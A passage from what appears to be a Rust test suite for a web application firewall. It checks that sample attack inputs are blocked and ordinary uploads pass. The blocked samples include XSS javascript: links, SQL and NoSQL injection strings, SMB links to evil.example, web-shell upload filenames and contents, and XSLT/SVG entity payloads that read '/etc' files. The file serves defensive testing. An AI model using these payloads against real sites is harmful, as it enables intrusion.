                "<xml id=x><a>b</a></xml>",
                "<a href=\"javascript:void(0);alert(1)\">x</a>",
                "<a href=\"javascript:void(alert(1))\">x</a>",
                "<a href=\"javascript:void(0)\">x</a><a href=\"javascript:alert(1)\">y</a>",
                "5 or 1=1",
                "x 5 or 1=1--",
                "smb://evil.example/share",
                "smb://192.0.2.1/share",
                "ldap://dc.example.com/DC=x",
            ],
            field,
        ),
        true,
    );
    let queries = [
        Sent::query("/login", &[("password[$ne]", b"x")]),
        Sent::query("/api", &[("filters[$where]", b"1")]),
        Sent::query("/api", &[("where", b"{\"$where\":\"sleep(1)\"}")]),
        Sent::query("/api", &[("user", b"{\"$ne\":null}")]),
        json("{\"password\":{\"$ne\":null}}"),
        json("{\"$or\":[{\"a\":1}]}"),
        Sent::post("/v1/tracesx", "application/json", "{\"a\":\"1' UNION SELECT a FROM b-- \"}"),
    ];
    check(queries.into_iter().map(|sent| (format!("{sent:.300?}"), sent)), true);
    let file = |name: &str, content: &str| {
        (
            format!("{name} {content}"),
            part(&format!("name=\"f\"; filename=\"{name}\""), "", content.as_bytes()),
        )
    };
    check(
        [
            file("shell.php.jpg", "x"),
            file("shell.php;.pdf", "x"),
            file("shell.php%00.pdf", "x"),
            file("shell.php.pdf", "%PDF-1.4 <?php system(1);"),
            file("shell.cer", "<%eval request(1)%>"),
            file("a.xsl", "<xsl:stylesheet><xsl:include href='http://e/x.xsl'/></xsl:stylesheet>"),
            file(
                "a.xsl",
                "<xsl:stylesheet><xsl:value-of select=\"document('/etc/x')\"/></xsl:stylesheet>",
            ),
            file(
                "a.xsl",
                "<xsl:stylesheet xmlns:r=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"/>",
            ),
            file("a.xsl", "<xsl:element name=\"{concat('scr','ipt')}\"/>"),
            file("a.svg", "<!DOCTYPE svg [<!ENTITY x \"javascript:alert(1)\">]><svg/>"),
            file("a.svg", "<!DOCTYPE svg [<!ENTITY x 'http://e/\"<script'>]><svg/>"),
            file("a.svg", "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'a()'>]><svg/>"),
            file("a.svg", "<svg><foreignObject><body/></foreignObject></svg>"),
        ],
        true,
    );
    let illustrator = "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [\n\t<!ENTITY ns_extend \"http://ns.adobe.com/Extensibility/1.0/\">\n]>\n<svg xmlns:x=\"&ns_extend;\"><switch><foreignObject requiredExtensions=\"&ns_extend;\" x=\"0\"/></switch></svg>";
    check(
        [
            file("a.cer", "-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----\n"),
            file("report.cgi.pdf", "%PDF-1.4\n"),
            file("intro.php.pdf", "%PDF-1.4\n"),
            file("app.war", "PK\u{3}\u{4}"),
            file(
                "a.xsl",
                "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:value-of select=\"count(a)\"/></xsl:template></xsl:stylesheet>",
            ),
            file("logo.svg", illustrator),
            file(
                "a.plist",
                "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
            ),
        ],
        false,
    );
}

#[test]
fn ordinary_files_pass() {
    let noise: Vec<u8> = (0..50_000u32).map(|it| (it.wrapping_mul(7_919) >> 3) as u8).collect();
    let form = "multipart/form-data; boundary=B";
    let quoted = "multipart/form-data; boundary=\"B\"";
    let data: Vec<_> = (0..2_000).map(|id| format!("{{\"id\":{id},\"name\":\"n{id}\"}}")).collect();
    let data = format!("[{}]", data.join(","));
    let icon = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:#f00}</style><path class=\"a\" d=\"M0 0h24z\"/></svg>";
    let image = b"\x89PNG\r\n\x1a\n<?xpacket begin='\xef\xbb\xbf' id='W5M0'?><x:xmpmeta xmlns:x='adobe:ns:meta/'></x:xmpmeta><?xpacket end='w'?>";
    let cases = [
        part_and(quoted, "name=a", "", b"x", "\r\n"),
        part_and(form, "name=a", "", b"x", "\r\n\r\n"),
        part_and(form, "name=a", "", b"x", ""),
        part("name=f; filename=x.png; filename*=utf-8''x.png", "", b"x"),
        part("name=\"f\"; filename*=UTF-8''na%C3%AFve.png; filename=\"na_ve.png\"", "", b"x"),
        part("name=\"f\"; filename*=utf-8''na%C3%AFve.png", "image/png", &noise),
        part("name=\"f\"; filename=\"a.jpg\"", "image/jpeg", &noise),
        part("name=\"f\"; filename=\"data.json\"", "application/json", data.as_bytes()),
        part("name=\"f\"; filename=\"README.md\"", "text/markdown", b"```php\n<?php echo 1;\n```"),
        part("name=\"f\"; filename=\"a.svg\"", "image/svg+xml", icon),
        part("name=\"f\"; filename=\"a.png\"", "image/png", image),
        part("name=\"f\"; filename=\"O'Brien - CV (final).pdf\"", "", b"x"),
        part("name=\"f\"; filename=\"Tom & Jerry; part 2 | id.mp4\"", "", b"x"),
        part("name=\"f\"; filename=\"my.php-tutorial.pdf\"", "", b"x"),
    ];
    check(cases.into_iter().enumerate().map(|(at, sent)| (at.to_string(), sent)), false);
}

#[test]
fn the_exclusions_for_crs_let_legitimate_requests_pass() {
    let Some(mut paths) = crate::data::paths() else { return };
    let of = |paths: &[std::path::PathBuf]| view(&crate::data::compiled(paths.to_vec()), &[]);
    let before = of(&paths);
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    paths.push(folder.join("../../examples/waf/crs-exclusions.conf"));
    let after = of(&paths);
    let video = "<iframe src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe>";
    for sent in [
        json("{\"avatar_url\":\"https://avatars.example.com/u/6752317?\"}"),
        Sent::form("/", &[("html", video.as_bytes())]),
        Sent::form("/", &[("post[text]", b"see [routing](../../../reference/routing.md)")]),
        Sent::form("/", &[("filter", b"5 > 3 and 2 < 4")]),
        part("name=\"f\"; filename=\"Tom; Jerry.mp4\"", "", b"x"),
    ] {
        let text = String::from_utf8_lossy(&sent.body).into_owned();
        assert_ne!(judged(&before, &sent), Verdict::Pass, "{text}");
        assert_eq!(judged(&after, &sent), Verdict::Pass, "{text}");
    }
    // Other fields are still judged.
    assert_ne!(judged(&after, &Sent::form("/", &[("q", video.as_bytes())])), Verdict::Pass);
}
